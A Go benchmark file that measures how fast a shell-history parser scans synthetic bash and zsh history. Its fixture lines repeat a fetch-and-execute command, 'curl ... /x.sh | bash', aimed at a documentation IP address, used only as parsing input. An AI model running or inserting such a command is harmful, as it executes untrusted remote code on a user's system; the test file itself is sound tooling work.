package history

import (
	"fmt"
	"strings"
	"testing"

	"github.com/yingji/yingji/internal/event"
)

func benchScan(b *testing.B, in string, f Format) {
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if err := New(Options{Format: f}).Scan(strings.NewReader(in), func(*event.Event) error { return nil }); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkBashTimed(b *testing.B) {
	var sb strings.Builder
	for i := range 20000 {
		fmt.Fprintf(&sb, "#%d\ncurl -s http://203.0.113.5/x.sh | bash -s -- --opt %d\n", 1599999999+i, i)
	}
	benchScan(b, sb.String(), FormatBash)
}

func BenchmarkZsh(b *testing.B) {
	var sb strings.Builder
	for i := range 20000 {
		fmt.Fprintf(&sb, ": %d:0;curl -s http://203.0.113.5/x.sh | bash -s -- --opt %d\n", 1599999999+i, i)
	}
	benchScan(b, sb.String(), FormatZsh)
}
